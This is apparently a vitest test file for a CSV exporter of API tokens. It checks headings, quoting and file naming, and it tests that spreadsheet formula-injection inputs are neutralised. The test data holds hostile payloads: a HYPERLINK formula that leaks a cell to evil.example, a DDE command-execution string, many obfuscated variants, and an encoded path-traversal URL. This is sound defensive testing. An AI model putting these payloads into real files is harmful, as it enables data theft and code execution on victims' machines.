import { describe, expect, it } from 'vitest';
import { carol, token } from './screens/fake-worker.ts';
import { csvHead, csvLines, csvName } from './token-csv.ts';

/** Reads CSV as RFC 4180 has it, by a state machine that knows nothing of how it is written. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at++) {
    const [char, next] = [text[at], text[at + 1]];
    if (isQuoted && char === '"' && next === '"') {
      cell += '"';
      at++;
    } else if (char === '"') isQuoted = !isQuoted;
    else if (!isQuoted && (char === ',' || char === '\r')) {
      rows.at(-1)?.push(cell);
      cell = '';
      if (char === '\r' && next === '\n') {
        rows.push([]);
        at++;
      }
    } else cell += char;
  }
  expect([isQuoted, cell, rows.pop()]).toEqual([false, '', []]);
  return rows;
}

const descriptionOf = (description: string) => parse(csvLines([token({ description })]))[0]?.[2];

describe('a file of tokens', () => {
  it('begins with a mark for Excel and the headings', () => {
    expect(csvHead().charCodeAt(0)).toBe(0xfeff);
    expect(parse(csvHead().slice(1))).toEqual([
      [
        'User',
        'User name',
        'Description',
        'Token',
        'Scope',
        'Created',
        'Created by',
        'Created by (user name)',
        'Last used',
        'Last used from',
        'Expires',
        'Addresses',
        'ID',
      ],
    ]);
  });

  it('has a row for each token', () => {
    const used = token({
      id: 't2',
      owner: carol,
      scope: 'write',
      lastUsedAt: '2026-11-23T10:12:00.000Z',
      lastUsedFrom: '203.0.113.9',
      expiresAt: null,
      ipRanges: ['10.0.0.0/8', '192.0.2.1'],
    });
    expect(parse(csvLines([token(), used]))).toEqual([
      [
        'Alice Ångström',
        'alice',
        'Nightly report',
        'pst_Qx7f…',
        'Read only',
        '2026-11-03T09:00:00Z',
        'Alice Ångström',
        'alice',
        'Never used',
        '',
        '2026-12-02T09:00:00Z',
        'any',
        't1',
      ],
      [
        'Cäröl Öberg',
        'cäröl',
        'Nightly report',
        'pst_Qx7f…',
        'Read and write',
        '2026-11-03T09:00:00Z',
        'Alice Ångström',
        'alice',
        '2026-11-23T10:12:00.000Z',
        '203.0.113.9',
        'Never',
        '10.0.0.0/8 192.0.2.1',
        't2',
      ],
    ]);
  });

  it.each([
    'a,b',
    'say "hi"',
    '"',
    'two\r\nlines',
    'a;b\tc',
    '報告 für Carol',
    '👩‍🔧',
    '1 + 1 = 2',
  ])('keeps %j as it is', (text) => {
    expect(descriptionOf(text)).toBe(text);
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '+1',
    '-1',
    '@SUM(A1)',
    '\ttab',
    '  =1',
    '\u00a0=1',
    '\u3000＝1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹢1',
    '"=1',
    "'=1",
    '" =1',
    '\u200b=1',
    '\ufeff=1',
    '\u0000=1',
    "=cmd|'/C calc'!A0",
  ])('makes %j text', (text) => {
    expect(descriptionOf(text)).toBe(`'${text}`);
  });

  it.each([
    ['x;=1+1;', "x;'=1+1;"],
    ["x; =cmd|'/C calc'!A0", "x;' =cmd|'/C calc'!A0"],
    ['x\t@SUM(A1)', "x\t'@SUM(A1)"],
    ['x\n＝1', "x\n'＝1"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['=1;-2', "'=1;'-2"],
  ])('makes %j text where a semicolon or a tab ends a cell', (text, harmless) => {
    expect(descriptionOf(text)).toBe(harmless);
  });

  it('makes names text too', () => {
    const evil = { key: 'k', name: '@evil', displayName: '=1+1' };
    const [row = []] = parse(csvLines([token({ owner: evil, creator: evil })]));
    expect(row.filter((cell) => /^[=@]/.test(cell))).toEqual([]);
    expect(row.filter((cell) => cell === "'=1+1" || cell === "'@evil")).toHaveLength(4);
  });
});

describe('its name', () => {
  it.each([
    ['https://jira.example.com', 'api-tokens-jira.example.com-2026-11-24.csv'],
    ['https://example.com/jira', 'api-tokens-example.com-jira-2026-11-24.csv'],
    ['http://localhost:8787/jira', 'api-tokens-localhost-8787-jira-2026-11-24.csv'],
    ['https://example.com/a/..%2f..%2fx', 'api-tokens-example.com-a-..-2f..-2fx-2026-11-24.csv'],
  ])('of %s is %s', (site, name) => {
    expect(csvName(site, '2026-11-24')).toBe(name);
  });
});
